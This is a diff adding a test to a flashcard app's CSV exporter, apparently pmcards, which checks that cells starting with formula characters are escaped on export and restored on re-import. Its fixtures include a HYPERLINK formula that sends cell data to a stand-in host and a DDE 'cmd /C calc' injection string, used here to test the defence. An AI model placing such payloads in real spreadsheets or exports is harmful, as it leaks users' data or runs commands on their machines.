@@ -155,3 +155,56 @@ def test_errors_name_file_and_row(tmp_path: Path, data: str, message: str) -> No
     with pytest.raises(DeckFormatError) as info:
         csv_deck.parse(write(tmp_path, data))
     assert str(info.value).replace(str(tmp_path) + "/", "").startswith(message)
+
+
+def test_formulas_are_neutralised_and_restored(tmp_path: Path) -> None:
+    # Issue 16: cells starting =, +, - or @ ran as formulas in a spreadsheet.
+    import csv
+    import io
+    from datetime import UTC, datetime
+
+    from pmcards.exporters import exporter
+    from pmcards.formats.options import ExportOptions
+    from pmcards.formats.parsed import ParsedDeck, ParsedNote
+    from pmcards.queries import Scope
+    from pmcards.store import Store
+
+    now = datetime(2026, 3, 2, 12, 0, tzinfo=UTC)
+    fronts = {
+        "f1": '=HYPERLINK("https://evil.example/?"&A1,"click")',
+        "f2": "+1+1",
+        "f3": "-2 is a number",
+        "f4": "@SUM(A1:A9)",
+        "f5": "'=already guarded",
+        "f6": "'quoted, not a formula",
+        "f7": "plain = fine",
+    }
+    notes = [
+        ParsedNote(
+            guid=g, kind="qa", fields={"front": f, "back": "b"}, tags=(), section="", line=None
+        )
+        for g, f in fronts.items()
+    ]
+    source = Store(f"sqlite:///{tmp_path / 'a.sqlite3'}")
+    with source.write() as conn:
+        importer.apply(
+            conn, [ParsedDeck(path="<test>", name="=cmd|' /C calc'!A0", notes=notes)], now
+        )
+    with source.read() as conn:
+        data = exporter("csv")(conn, ExportOptions(format="csv", scope=Scope(), now=now))
+    source.close()
+    rows = list(csv.reader(io.StringIO(data.decode("utf-8"))))
+    cells = [cell for row in rows for cell in row]
+    # What a spreadsheet would run: no cell starts with a formula character.
+    assert [c for c in cells if c[:1] in ("=", "+", "-", "@")] == []
+    by_id = {row[0]: row for row in rows[1:]}
+    assert by_id["f1"][5] == "'" + fronts["f1"] and by_id["f1"][1] == "'=cmd|' /C calc'!A0"
+    assert by_id["f5"][5] == "''=already guarded" and by_id["f6"][5] == "'quoted, not a formula"
+    assert by_id["f7"][5] == "plain = fine"
+    path = write(tmp_path, data, "out.csv")
+    (deck,) = csv_deck.parse(path)
+    assert deck.name == "=cmd|' /C calc'!A0"
+    assert {n.guid: n.fields["front"] for n in deck.notes} == fronts
+    # Someone else's CSV keeps its apostrophes: only pmcards' own header is read back so.
+    other = write(tmp_path, "Front,Back\n'=x,y\n", "other.csv")
+    assert csv_deck.parse(other)[0].notes[0].fields["front"] == "'=x"
